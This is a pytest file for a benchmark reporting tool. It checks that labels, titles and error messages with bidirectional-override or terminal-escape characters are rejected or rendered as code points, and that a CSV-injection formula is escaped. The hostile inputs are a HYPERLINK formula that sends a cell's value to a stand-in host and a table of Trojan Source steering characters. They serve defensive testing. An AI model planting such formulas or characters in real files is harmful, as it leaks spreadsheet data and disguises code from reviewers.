"""Names and labels that say something else to a program than to a reader, as the field's trackers report them."""

from __future__ import annotations

import csv
import shutil
from dataclasses import replace
from pathlib import Path

import fakes
import pytest
from commands import Call, caller

from bench import registry
from bench.audit.table import read_table
from bench.data.catalogue.cards import datasets_root, read_card
from bench.errors import DataError, RequestError, SuiteError
from bench.metrics.registry import METRICS, find_metrics
from bench.registry import Registry
from bench.store.files import first_line, write_text
from bench.suites.suite import SuiteRow, load_suite
from bench.types import Choice, ModelInfo, Reported
from reports.build import build_report
from reports.render.csv_markdown import table_to_csv, table_to_markdown
from reports.results.entries import Entry, entry_of
from reports.tables.comparison import comparison_table
from tests.reports.fake_runs import ACM, DFINET, measured, result, row_of, write_suite

STEERING = {
    "right-to-left override": "\u202e",
    "left-to-right isolate": "\u2066",
    "right-to-left mark": "\u200f",
    "zero width space": "\u200b",
    "line separator": "\u2028",
    "paragraph separator": "\u2029",
    "a control character": "\x1b",
    "a control character, a line break": "\n",
}
"""Trojan Source (CVE-2021-42574) is the report of bidirectional characters; escape codes steer terminals."""

FORMULA = '=HYPERLINK("http://a.example/?"&A1)'
"""The cell of OWASP's page on CSV injection, which pandas#61296 asks writers of tables to escape."""


@pytest.fixture
def call(monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str], tmp_path: Path) -> Call:
    fakes.register_fakes(monkeypatch)
    find_metrics()
    monkeypatch.setattr(METRICS, "_entries", dict(METRICS._entries))
    monkeypatch.setattr(registry, "_PLUGINS", {})
    monkeypatch.chdir(tmp_path)
    return caller(monkeypatch, capfd)


@pytest.mark.parametrize("letter", STEERING.values(), ids=STEERING)
def test_a_label_with_a_steering_character_is_refused_where_the_suite_is_read(letter: str, tmp_path: Path) -> None:
    path = tmp_path / "mine.toml"
    code = f"\\u{ord(letter):04X}"
    for line in (f'label = "AC{code}M"', f'settings = {{ mode = "{code}" }}', f'set = {{ start = "x{code}" }}'):
        path.write_text(f'datasets = ["synthetic"]\n[[row]]\nmodel = "ACM"\n{line}\n')
        with pytest.raises(SuiteError, match=rf"mine\.toml: .* take out U\+{ord(letter):04X}"):
            load_suite(str(path))
    path.write_text(f'title = "a{code}"\ndatasets = ["synthetic"]\n[[row]]\nmodel = "ACM"\n')
    with pytest.raises(SuiteError, match="suite: title is"):
        load_suite(str(path))


@pytest.mark.parametrize("letter", STEERING.values(), ids=STEERING)
def test_a_plugins_texts_with_a_steering_character_are_refused(letter: str) -> None:
    named = Registry[int]("model")
    with pytest.raises(RequestError, match="the name of a model is"):
        named.add(f"AC{letter}M", 1)
    with pytest.raises(RequestError, match="model: cite is"):
        ModelInfo("A", cite=f"A{letter}uthor", source="", licence="", recipe="")
    with pytest.raises(RequestError, match="design choice: head is"):
        Choice("chpp", f"C{letter}", 0)
    with pytest.raises(RequestError, match="published number: note is"):
        Reported("NUDT-SIRST", "", "IoU/pooled", 0.5, "here", note=letter)


def test_a_card_is_held_to_the_same_rule(tmp_path: Path) -> None:
    folder = shutil.copytree(datasets_root() / "synthetic", tmp_path / "synthetic")
    card = folder / "card.toml"
    card.write_text(card.read_text(encoding="utf-8").replace('title = "', 'title = "\\u202E'), encoding="utf-8")
    with pytest.raises(DataError, match=r"card\.toml: .*card: title is .* take out U\+202E"):
        read_card(folder)


def test_a_suite_made_in_python_is_held_to_the_same_rule() -> None:
    with pytest.raises(RequestError, match="row: label is"):
        SuiteRow("ACM", "A\u202e")


def test_scripts_with_joiners_and_accents_are_names() -> None:
    for label in ("مدل\u200cها", "पिक्\u200dसेल", "Détecteur", "红外小目标", "שלום"):
        assert SuiteRow("ACM", label).label == label


def hostile(label: str, root: Path) -> list[Entry]:
    """Two rows, one whose label is given and one that failed with a message that steers."""
    reason = first_line(RuntimeError("bo\u202eom \x1b[31m"))
    return [
        entry_of(row_of(result(ACM), label), root, result(ACM)),
        entry_of(
            row_of(result(DFINET)), root, replace(result(DFINET), status="failed", scores={}, reason="\u202e" + reason)
        ),
    ]


def test_a_reason_that_steers_is_shown_as_code_points_in_every_output(tmp_path: Path) -> None:
    failed = replace(result(DFINET), status="failed", scores={}, reason="bo\u202eom \u2066x\x1b[31m")
    rows = [("ACM", measured(result(ACM), tmp_path, skill=0.5, frames=2), None), ("DFINet", failed, None)]
    write_suite(tmp_path, rows, title="Trial")  # type: ignore[arg-type]
    build_report(tmp_path, "trial", out=tmp_path / "out", compile_pdf=False)
    for path in (tmp_path / "out").rglob("*.*"):
        if path.suffix in (".csv", ".md", ".html", ".tex"):
            text = path.read_text(encoding="utf-8")
            assert not any(letter in text for letter in "\u202e\u2066\x1b"), path
    assert "bo[U+202E]om [U+2066]x[U+001B][31m" in (tmp_path / "out/index.html").read_text(encoding="utf-8")


def test_an_error_of_a_library_is_recorded_without_steering_characters() -> None:
    assert first_line(RuntimeError("bo\u202eom \x1b[31m\nmore")) == "bo[U+202E]om [U+001B][31m"


def test_a_label_that_is_a_formula_is_no_formula_in_a_csv_file_and_is_read_back(tmp_path: Path) -> None:
    table = comparison_table(hostile(FORMULA, tmp_path)[:1], title="Trial")
    text = table_to_csv(table)
    (line,) = csv.DictReader(text.splitlines())
    assert line[table.first_head] == f"'{FORMULA}"
    (row,) = read_table(write_text(tmp_path / "table.csv", text), dataset="NUDT-SIRST").rows
    assert row.method == FORMULA
    assert FORMULA.split("(")[0] in table_to_markdown(table)


def test_results_csv_holds_no_formula(tmp_path: Path) -> None:
    rows = [(FORMULA, measured(result(ACM), tmp_path, skill=0.5, frames=2), None)]
    write_suite(tmp_path, rows, title="-Trial")  # type: ignore[arg-type]
    build_report(tmp_path, "trial", out=tmp_path / "out", compile_pdf=False)
    (line,) = csv.DictReader((tmp_path / "out/results.csv").read_text(encoding="utf-8").splitlines())
    assert line["label"] == f"'{FORMULA}"
    assert float(line["IoU/pooled"]) == measured(result(ACM), tmp_path, skill=0.5, frames=2).scores["IoU/pooled"].value


def test_a_plugins_metric_that_mlflow_cannot_take_is_refused_when_it_is_registered(call: Call) -> None:
    """mlflow#7807 and visdet#551: a metric called `mAP@0.5` ended the logging of the whole run."""
    Path("mine.py").write_text(
        "from bench import Ratio, metric\n\n"
        '@metric("IoU@0.5", unit="fraction", better="higher")\n'
        "def at_half(counts):\n    return Ratio.of(counts.matched, counts.targets)\n"
    )
    answer = call("list", "metrics", "--plugin", "mine.py")
    assert answer.code == 2
    assert answer.err.count("\n") == 1
    assert "metric 'IoU@0.5': expected family/rule of letters, digits, spaces and _ - . :" in answer.err
